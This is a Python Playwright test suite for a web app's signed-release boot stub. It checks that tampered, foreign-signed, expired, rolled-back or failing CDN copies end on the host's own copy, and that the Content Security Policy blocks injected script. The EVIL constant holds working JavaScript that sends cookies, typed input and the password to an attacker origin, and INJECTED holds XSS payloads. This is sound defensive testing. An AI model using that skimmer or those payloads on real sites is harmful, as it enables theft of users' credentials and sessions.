"""Signed releases against a CDN that misbehaves on purpose: the stub runs nothing a trusted key did not sign,
and every bad CDN (changed, foreign-signed, expired, older, late, trickling, missing, half-published) ends on
the host's own copy, with a usable login form within 5 s of navigation.

CDNs here are devserver.cdn processes serving a changed copy of the session's bundle or misbehaving on chosen
paths (`rules`), or the session's CDN with one file changed on the way (Playwright routes, CDN origin only).
"""
import json
import re
import shutil
import time

import pytest
from playwright.sync_api import expect

from devserver import procs, release
from harness import WAIT_MS, Cdn, open_app, sign_in

LOGIN_BUDGET_MS = 5000
RESTART_MS = 3000
# Set on every document (the fallback reloads the page): when the login form became usable, epoch ms.
READY_AT = """new MutationObserver(function () {
  var f = document.getElementById("xl-login-form");
  if (f && f.getAttribute("data-ready") === "1" && !window.__ready_at) window.__ready_at = Date.now();
}).observe(document, {subtree: true, childList: true, attributes: true, attributeFilter: ["data-ready"]});"""
# What a CDN operator gone bad would add to boot.js: the cookie and the typed password, sent away.
EVIL = """
;(function () {
  var A = %s;
  function leak(what) {
    try { fetch(A + "leak?" + encodeURIComponent(what), { mode: "no-cors" }); } catch (e) {}
    try { new Image().src = A + "img?" + encodeURIComponent(what); } catch (e) {}
    try { navigator.sendBeacon(A + "beacon", what); } catch (e) {}
  }
  leak("cookie=" + document.cookie);
  document.addEventListener("input", function (e) { leak("typed=" + e.target.value); }, true);
  document.addEventListener("submit", function () { leak("password=" + document.getElementById("xl-password").value); }, true);
})();
"""


def serve(request, folder=None, rules=()):
    """A CDN origin of the test's own: `folder` (an empty one when None) served, misbehaving per `rules`."""
    if folder is None:
        folder = request.getfixturevalue("tmp_path") / "empty"
        folder.mkdir(exist_ok=True)
    child = procs.cdn(folder, rules=rules)
    request.addfinalizer(child.stop)
    return Cdn(child)


def copy_bundle(bundle, tmp_path, name="cdn"):
    folder = tmp_path / name
    shutil.copytree(bundle["dir"], folder)
    return folder


def rewrite(folder, path, edit):
    """Replace a bundle file by edit(bytes) and drop its precompressed siblings."""
    target = folder / path
    target.write_bytes(edit(target.read_bytes()))
    for suffix in (".br", ".gz"):
        (folder / (path + suffix)).unlink(missing_ok=True)


def resign(folder, key, **options):
    """A valid statement of the folder's files as they are now, signed by `key`."""
    info = json.loads((folder / "manifest.json").read_text())
    return release.write_signed(folder, info, release.bundle_files(folder), key, **options)


def open_watched(page, pool, guard):
    """Navigate to the pool's stub; returns the navigation's start (epoch ms)."""
    page.add_init_script(READY_AT)
    started = time.time() * 1000
    open_app(page, pool, guard)
    return started


def ends_on_the_host_copy(page, pool, started, warned, guard):
    """The login form, usable from the host's copy within the budget, and the console saying why."""
    page.locator("form[data-ready='1']").wait_for(timeout=WAIT_MS)
    assert page.evaluate("xcplite.booted") == pool.url + "xcplite/"
    ready_ms = page.evaluate("window.__ready_at") - started
    assert ready_ms < LOGIN_BUDGET_MS, f"login form usable after {ready_ms:.0f} ms"
    notes = [line for line in guard.console if "xcplite: " in line]
    assert any(re.search(warned, line) for line in notes), notes
    expect(page.get_by_role("button", name="Log in")).to_be_enabled()
    return ready_ms


def test_the_session_cdn_is_verified_and_remembered(guard, app_page, sim, cdn, bundle):
    open_app(app_page, sim, guard)
    app_page.locator("form[data-ready='1']").wait_for(timeout=WAIT_MS)
    assert app_page.evaluate("xcplite.booted") == cdn.url
    assert app_page.evaluate("xcplite.release.version") == bundle["manifest"]["version"]
    seen = json.loads(app_page.evaluate("localStorage.getItem('xcplite.release ' + %s)" % json.dumps(cdn.origin)))
    assert seen["version"] == bundle["manifest"]["version"] and seen["issued"] > 0
    paths = [r["path"] for r in cdn.requests()[guard.marks[cdn.origin]:]]
    assert {"/release.json", "/release.sig", "/boot.js"} <= set(paths)


@pytest.mark.parametrize("signed_by", ["nobody (statement unchanged)", "a key the host does not trust"])
def test_a_changed_boot_js_never_runs_and_nothing_reaches_the_attacker(request, guard, app_page, start_sim,
                                                                        bundle, tmp_path, signed_by):
    attacker = serve(request)
    folder = copy_bundle(bundle, tmp_path)
    rewrite(folder, "boot.js", lambda data: data + (EVIL % json.dumps(attacker.url)).encode())
    warned = "is not the one release"
    if signed_by.startswith("a key"):
        other = tmp_path / "other-key"
        release.keygen(other)
        resign(folder, other)
        warned = "not signed by a key this host trusts"
    evil = serve(request, folder)
    pool = start_sim(evil.url)
    sent = []
    guard.context.on("request", lambda r: sent.append((r.url, r.post_data or "")))
    started = open_watched(app_page, pool, guard)
    ends_on_the_host_copy(app_page, pool, started, warned, guard)
    sign_in(app_page, pool, guard)
    assert attacker.requests() == [], "the attacker's origin received requests"
    assert not [u for u, _ in sent if u.startswith(attacker.origin)]
    assert not [u for u, body in sent if pool.password in u + body and not u.startswith(pool.url)]


def test_an_expired_release_is_refused(request, guard, app_page, start_sim, bundle, tmp_path, release_key):
    folder = copy_bundle(bundle, tmp_path)
    resign(folder, release_key, issued=time.time() - 3 * 86400, expires_days=1)
    pool = start_sim(serve(request, folder).url)
    started = open_watched(app_page, pool, guard)
    ends_on_the_host_copy(app_page, pool, started, r"release [\d.]+ expired on", guard)


def test_an_older_release_after_a_newer_one_is_refused(request, browser, guard, app_page, start_sim, bundle,
                                                       tmp_path, release_key):
    folder = copy_bundle(bundle, tmp_path)
    resign(folder, release_key, version="9.0.0")
    evil = serve(request, folder)
    pool = start_sim(evil.url)
    open_app(app_page, pool, guard)
    app_page.locator("form[data-ready='1']").wait_for(timeout=WAIT_MS)
    assert app_page.evaluate("[xcplite.booted, xcplite.release.version]") == [evil.url, "9.0.0"]
    resign(folder, release_key, version="1.0.0")  # validly signed, but older than what this browser ran
    again = guard.context.new_page()
    started = open_watched(again, pool, guard)
    ends_on_the_host_copy(again, pool, started, "release 1.0.0 is older than release 9.0.0", guard)
    # a browser that never saw 9.0.0 takes 1.0.0: what it refused was the rollback
    fresh = browser.new_context()
    try:
        page = fresh.new_page()
        page.goto(pool.url)
        page.locator("form[data-ready='1']").wait_for(timeout=WAIT_MS)
        assert page.evaluate("[xcplite.booted, xcplite.release.version]") == [evil.url, "1.0.0"]
    finally:
        fresh.close()


def test_a_release_below_the_stubs_minimum_is_refused(guard, app_page, start_sim):
    pool = start_sim("up", min_version="99.0")
    started = open_watched(app_page, pool, guard)
    ends_on_the_host_copy(app_page, pool, started, r"is older than the minimum 99\.0", guard)


def changed_on_the_way(page, cdn, pattern):
    """The CDN's copy of the matching files arrives with one more byte (same code, another hash)."""
    def handle(route):
        response = route.fetch()
        headers = {k: v for k, v in response.headers.items() if k.lower() not in ("content-encoding", "content-length")}
        route.fulfill(status=response.status, headers=headers, body=response.body() + b" ")
    page.route(re.compile(re.escape(cdn.url) + pattern), handle)


@pytest.mark.parametrize("pattern", [r"app-[0-9a-f]{10}\.json$", r".*\.wasm$", r".*/core-[^/]*\.js$",
                                     r"interp-[0-9a-f]{10}\.js$", r".*/micropython\.js$"],
                         ids=["app sources", "wasm", "PyScript core", "interpreter entry", "interpreter module"])
def test_a_changed_start_up_file_ends_on_the_host_copy(guard, app_page, sim, cdn, pattern):
    guard.expect_console_error("integrity|digest|" + re.escape(cdn.url))
    changed_on_the_way(app_page, cdn, pattern)
    started = open_watched(app_page, sim, guard)
    ends_on_the_host_copy(app_page, sim, started, "the CDN's copy failed", guard)


@pytest.fixture
def running_vm(sim):
    session = sim.sdk()
    try:
        vms = session.xenapi.VM.get_all_records()
        return next(v["uuid"] for v in vms.values() if v["power_state"] == "Running" and v["resident_on"]
                    and not (v["is_a_template"] or v["is_control_domain"] or v["is_a_snapshot"]))
    finally:
        session.xenapi.session.logout()


@pytest.mark.parametrize("pattern, tab", [(r"vendor/novnc-[0-9a-f]{10}/core/rfb\.js$", "console"),
                                          (r"charts-[0-9a-f]{10}\.js$", "stats"),
                                          (r"vendor/uplot-[0-9a-f]{10}/uPlot\.iife\.min\.js$", "stats")],
                         ids=["noVNC", "chart code", "uPlot"])
def test_a_changed_file_loaded_on_first_use_ends_on_the_host_copy(guard, app_page, sim, cdn, running_vm,
                                                                  pattern, tab):
    guard.expect_console_error("integrity|digest|" + re.escape(cdn.url))
    changed_on_the_way(app_page, cdn, pattern)
    sign_in(app_page, sim, guard, f"#/vm/{running_vm}?tab={tab}")
    # the page starts again from the host's copy, signed in, on the same page
    app_page.wait_for_function("() => xcplite.booted === %s" % json.dumps(sim.url + "xcplite/"), timeout=WAIT_MS)
    if tab == "console":
        app_page.locator("[data-status=connected]").wait_for(timeout=WAIT_MS)
    else:
        app_page.locator(".xl-chart canvas").first.wait_for(timeout=WAIT_MS)
    assert app_page.evaluate("xcplite.fellBack.why")


@pytest.mark.parametrize("rule", [r"\.wasm$=hang", r"/app-[0-9a-f]{10}\.json$=trickle",
                                  r"/core-[^/]*\.js$=404", "half-published"],
                         ids=["hangs after boot.js", "trickles", "404s a file",
                              "next release's boot.js with this release's files"])
def test_a_cdn_failing_after_boot_js_ends_on_the_host_copy_in_time(request, guard, app_page, start_sim, bundle,
                                                                   tmp_path, release_key, rule):
    if rule == "half-published":
        folder = copy_bundle(bundle, tmp_path)
        start_file = next(p for p in bundle["manifest"]["files"] if re.fullmatch(r"app-[0-9a-f]{10}\.json", p))
        rewrite(folder, "boot.js", lambda data: data.replace(start_file.encode(), b"app-0123456789.json"))
        resign(folder, release_key)  # the new statement and boot.js are out; the new files are not
        evil = serve(request, folder)
    else:
        evil = serve(request, bundle["dir"], rules=[rule])
    guard.expect_console_error(re.escape(evil.url) + "|integrity|digest")
    pool = start_sim(evil.url)
    started = open_watched(app_page, pool, guard)
    ends_on_the_host_copy(app_page, pool, started, "the CDN's copy failed", guard)
    failed_at = app_page.evaluate("xcplite.fellBack.at")
    assert app_page.evaluate("performance.timeOrigin") - failed_at < RESTART_MS


def test_a_changed_boot_js_and_no_host_copy_shows_the_explanation(request, guard, app_page, start_sim, bundle,
                                                                  tmp_path):
    folder = copy_bundle(bundle, tmp_path)
    rewrite(folder, "boot.js", lambda data: data + b"\n/* changed */\n")
    evil = serve(request, folder)
    pool = start_sim(evil.url, local=False)
    guard.expect_console_error("/xcplite/boot.js")
    open_app(app_page, pool, guard)
    alert = app_page.get_by_role("alert")
    expect(alert.get_by_role("heading", name="xcplite could not start")).to_be_visible()
    reasons = alert.get_by_role("listitem").all_inner_texts()
    assert any(r.startswith(evil.url + "boot.js is not the one release") for r in reasons), reasons
    assert any(re.match(r"/xcplite/boot\.js answered HTTP 404$", r) for r in reasons), reasons


def test_without_webcrypto_the_cdn_is_not_used(guard, app_page, sim, cdn):
    app_page.add_init_script("Object.defineProperty(window, 'isSecureContext', { value: false });")
    started = open_watched(app_page, sim, guard)
    ends_on_the_host_copy(app_page, sim, started, "not a secure context", guard)
    assert not [r for r in cdn.requests()[guard.marks[cdn.origin]:] if r["path"] != "/_dev/requests"]


VIOLATIONS = """window.__blocked = [];
document.addEventListener("securitypolicyviolation", function (e) { window.__blocked.push(e.violatedDirective); });"""
INJECTED = '<script>window.__ran_script = 1</script><img src="data:," onerror="window.__ran_handler = 1">'


def test_the_policy_blocks_script_injected_into_the_page(guard, app_page, start_sim):
    guard.expect_console_error("Content Security Policy")
    pool = start_sim(edit_stub=lambda html: html.replace("</body>", INJECTED + "</body>"))
    app_page.add_init_script(VIOLATIONS)
    open_app(app_page, pool, guard)
    app_page.locator("form[data-ready='1']").wait_for(timeout=WAIT_MS)  # the stub's own script still runs
    policy = app_page.locator("meta[http-equiv='Content-Security-Policy']").get_attribute("content")
    script_src = re.search(r"script-src ([^;]+)", policy).group(1)
    assert "'strict-dynamic'" in script_src and "'wasm-unsafe-eval'" in script_src
    assert "'unsafe-eval'" not in script_src and "'unsafe-inline'" not in script_src
    for directive in ("default-src 'none'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"):
        assert directive in policy
    app_page.evaluate("""() => { const a = document.createElement("a");
        a.href = "javascript:window.__ran_link = 1"; document.body.appendChild(a); a.click(); a.remove(); }""")
    # eval from a task of the page's own (code run by the test itself is exempt from the policy)
    evaluated = app_page.evaluate("""() => new Promise(resolve => setTimeout(() => {
        try { resolve(String(eval("1 + 1"))); } catch (e) { resolve(e.name); }
    }, 0))""")
    ran = app_page.evaluate("[window.__ran_script, window.__ran_handler, window.__ran_link, window.__blocked]")
    assert ran[:3] == [None, None, None], ran
    assert evaluated == "EvalError"
    assert {"script-src-elem", "script-src-attr"} <= set(ran[3]), ran[3]
